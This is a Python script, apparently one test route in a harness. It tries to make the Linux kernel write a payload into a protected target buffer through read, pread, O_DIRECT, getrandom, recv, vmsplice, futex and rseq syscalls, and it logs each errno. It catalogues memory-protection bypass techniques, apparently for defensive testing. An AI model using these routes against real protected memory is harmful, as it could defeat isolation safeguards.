"""Route 13: the kernel writing into the target as an ordinary output buffer (no FOLL_FORCE):
read(), preadv2, O_DIRECT pread, getrandom, recvmsg, vmsplice pipe->memory, futex FUTEX_WAKE_OP,
sigaltstack+signal (frame written to the target), rseq registration in the target.
Run: python r13_kernel_copies.py"""
import ctypes, os, signal, socket
from harness import run_route, en, sys_call

def attack(t):
    libc, R, out = t.libc, t.routes, []
    def rc(tag, fn):
        ctypes.set_errno(0)
        try:
            r = fn()
            out.append(f"{tag}:{en(ctypes.get_errno()) if r is not None and r < 0 else 'ok'}")
        except OSError as e:
            out.append(f"{tag}:{en(e.errno)}")
    fd = os.open(t.payload_file, os.O_RDONLY)
    libc.read.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    rc("read", lambda: libc.read(fd, t.dst, t.page))
    libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
    rc("pread", lambda: libc.pread(fd, t.dst, t.page, 0))
    os.close(fd)
    try:
        dfd = os.open(t.payload_file, os.O_RDONLY | os.O_DIRECT)
        rc("pread-odirect", lambda: libc.pread(dfd, t.dst, t.page, 0)); os.close(dfd)
    except OSError as e:
        out.append(f"odirect-open:{en(e.errno)}")
    rc("getrandom", lambda: sys_call(libc, 318, ctypes.c_void_p(t.dst), 16, 0)[0])
    a, b = socket.socketpair()
    a.send(t.payload[:64])
    libc.recv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    rc("recv", lambda: libc.recv(b.fileno(), t.dst, 64, 0))
    a.close(); b.close()
    buf = ctypes.create_string_buffer(t.payload, t.page)
    out.append(f"vmsplice:{en(R.vmsplice_into(ctypes.c_void_p(t.dst), buf, ctypes.c_size_t(64)))}")
    word = ctypes.c_int(0)
    out.append(f"futex-wakeop:{en(R.futex_wakeop(ctypes.byref(word), ctypes.c_void_p(t.dst)))}")
    rseq = sys_call(libc, 334, ctypes.c_void_p(t.dst), 32, 0, 0x53053053)
    out.append(f"rseq:{en(rseq[1])}")
    return " ".join(out)

if __name__ == "__main__":
    run_route("r13_kernel_copies", attack)
